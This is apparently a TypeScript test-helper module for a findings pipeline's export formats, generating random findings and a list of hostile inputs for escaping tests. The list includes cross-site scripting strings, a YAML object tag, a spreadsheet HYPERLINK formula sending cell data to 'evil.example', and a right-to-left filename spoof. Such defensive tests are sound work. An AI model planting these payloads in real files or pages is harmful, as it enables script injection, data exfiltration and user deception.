// What tests of exports share: documents, the files of an export as text, random findings and hostile words.
import fc from 'fast-check';
import type { Box, Finding, FindingsDocument } from '../../pipeline/contract/schemas.ts';
import { NO_USAGE } from '../../pipeline/contract/usage.ts';
import { type ExportFormat, exportFiles, pathFor } from '../../pipeline/findings/exports/index.ts';
import { requestFor } from './pipeline-run.ts';
import { finding } from './tool-calls.ts';

export const IMAGE = { uri: 's3://plans/site%20plan.jpg', width: 4_000, height: 3_000, format: 'jpeg', version: '1' };

export function documentOf(findings: Finding[], image = IMAGE): FindingsDocument {
  const { ask, plan, models, execution_id } = requestFor('');
  const tiles = { total: 1, done: 1, blank: 0, failed: [], not_analyzed: [] };
  return {
    execution_id,
    status: 'SUCCEEDED',
    image,
    request: { ask, plan },
    models,
    tiles,
    usage: NO_USAGE,
    summary: '',
    notes: [],
    findings,
  };
}

/** The files of an export by their paths in it. */
export function exportedFiles(format: ExportFormat, document: FindingsDocument, imageUrl: string | null = null) {
  const source = { document, startedAt: '2026-03-01T10:20:30.000Z', imageUrl };
  return new Map(exportFiles(format).map(({ path, pieces }) => [pathFor(path, document), [...pieces(source)].join('')]));
}

/** The only file of an export. */
export function exported(format: ExportFormat, document: FindingsDocument, imageUrl: string | null = null): string {
  const [file, ...others] = exportedFiles(format, document, imageUrl).values();
  if (file === undefined || others.length > 0) throw new Error(`Expected one file of ${format}, got ${others.length + 1}.`);
  return file;
}

/** From whole images to boxes without a size, in tenths of a pixel as the pipeline has them. */
export const boxes = fc
  .tuple(...[IMAGE.width, IMAGE.height, IMAGE.width, IMAGE.height].map((max) => fc.integer({ min: 0, max: max * 10 })))
  .map(([left = 0, top = 0, right = 0, bottom = 0]): Box => {
    const [x, y] = [Math.min(left, right), Math.min(top, bottom)];
    return [x / 10, y / 10, Math.abs(right - left) / 10, Math.abs(bottom - top) / 10];
  });

/** Any sequence of UTF-16 units, half characters among them, and what makes formulas, cells, rows, markup and mappings. */
const words = fc
  .array(
    fc.oneof(
      fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit)),
      fc.constantFrom(...'=+-@;,"\t\r\n \'＝<>&:#{}[]\\'),
      fc.constant('=A1'),
    ),
  )
  .map((parts) => parts.join(''));

export const findings = fc
  .array(
    fc.record({
      label: words,
      description: words,
      text: fc.option(words),
      box: boxes,
      score: fc.double({ min: 0, max: 1, noNaN: true }),
      severity: fc.constantFrom('info' as const, 'critical' as const),
      verified: fc.constantFrom(null, 'confirmed' as const, 'rejected' as const, 'corrected' as const),
    }),
    { maxLength: 20 },
  )
  .map((all) => all.map((fields, index) => finding(index, fields)));

export const hostileWords: [name: string, words: string][] = [
  ['markup', '<img src=x onerror="alert(1)">'],
  ['the end of a script', '</script><script>alert(1)</script>'],
  ['the end of an element', "</name></object>]]><!-- <!DOCTYPE x [<!ENTITY y 'z'>]> &y; &#0; -->"],
  ['a mapping of YAML', 'cat\n  1: "dog"\nnames: [] # {{ !!python/object &a *a'],
  ['a formula', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
  ['10,000 characters', 'wide '.repeat(2_000)],
  ['10,000 line breaks', '\n'.repeat(10_000)],
  ['letters from right to left', 'مخرج الطوارئ'],
  ['an override of direction', 'invoice\u202Efdp.exe'],
  ['control characters', 'a\u0000b\u001B[2Jc\u009B31md\u007F\b'],
  ['half characters', 'a\uD800b\uDC00'],
  ['noncharacters and a byte order mark', '\uFEFFa\uFFFEb\uFFFFc\u{1FFFE}'],
  ['commas, quotes and line breaks', 'a,"b"\r\nc,d\n"'],
  ['emoji', '👩‍🚒 fire ⚠️'],
];
